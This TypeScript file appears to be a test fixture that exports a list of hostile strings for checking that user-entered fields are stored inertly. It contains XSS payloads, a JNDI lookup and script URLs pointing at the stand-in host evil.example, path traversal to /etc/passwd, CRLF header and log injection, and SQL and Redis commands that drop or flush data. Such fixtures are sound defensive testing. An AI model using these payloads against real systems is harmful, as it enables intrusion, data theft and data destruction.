/** What a visitor may write into any field: none of it may do anything but stand there. */

const calls = 'alert(1)';
/** Of a template literal, which a linter would otherwise take for a mistake. */
const dollar = '$';

const markup = [
  `<script>${calls}</script>`,
  `<img src=x onerror="${calls}">`,
  `"><svg/onload=${calls}>`,
  `'"><iframe srcdoc="<script>parent.${calls}</script>"></iframe>`,
  `</textarea></title></table></select><h1>taken over</h1>`,
  `<!--><img src=https://evil.example/pixel.gif>-->`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${calls}>`,
  `&lt;script&gt;${calls}&lt;/script&gt;&#x3c;img&#x3e;`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
];

const scripts = [
  `';${calls}//`,
  `\\";${calls};//\u2028${calls}`,
  `{{constructor.constructor("${calls}")()}}`,
  `${dollar}{${calls}}`,
  `#{${calls}}<%= ${calls} %>[[${calls}]]`,
  `${dollar}{jndi:ldap://evil.example/a}`,
];

const addresses = [
  `javascript:${calls}`,
  'https://evil.example/steal.js',
  '//evil.example/x?y=1#z',
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  '/../../../../etc/passwd%00.html',
  'https://user:secret@evil.example:8080/%0d%0aSet-Cookie:%20a=b',
];

const styles = [
  `x:expression(${calls});background:url(https://evil.example/css)`,
  '</style><style>*{display:none}</style>',
  '}body{display:none}@import "//evil.example/x.css";',
];

const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '__proto__.polluted',
  'null',
  '(other)',
  '-0',
];

const stores = [
  '{other.1:0}:ledger',
  'demo:all:pages',
  '*\r\nFLUSHALL\r\n',
  `'; DROP TABLE events; --`,
  '; return redis.call("FLUSHALL")',
];

const characters = [
  '\u0000\u0007\u0008\u007F\u0085',
  '\u001B[31mred\u001B[2J\u001B]0;title\u0007',
  'line\r\nSet-Cookie: a=b\r\n\r\n{"level":"error","message":"forged"}\nline',
  '\u202Egnp.exe\u202C\u2066\u2067',
  'שלום עולם',
  'مرحبا بالعالم',
  '👩‍👩‍👧‍👦🏳️‍🌈🇨🇭',
  'Z̷̡͎̎a̴̢̙͐l̶̰̅g̵̱̈o̵̠̍',
  '\uD800 half of a pair',
  '\uFEFF\u200B\u00A0zero width',
  '   ',
];

const lengths = ['a'.repeat(2_000), 'ä/'.repeat(1_000), `/${'%F0%9F%92%A9'.repeat(166)}`, 'W'.repeat(119)];

/** Each at most 2,000 UTF-16 units, the limit of a path. No two are equal, nor have equal beginnings of 120. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...markup,
  ...scripts,
  ...addresses,
  ...styles,
  ...names,
  ...stores,
  ...characters,
  ...lengths,
];
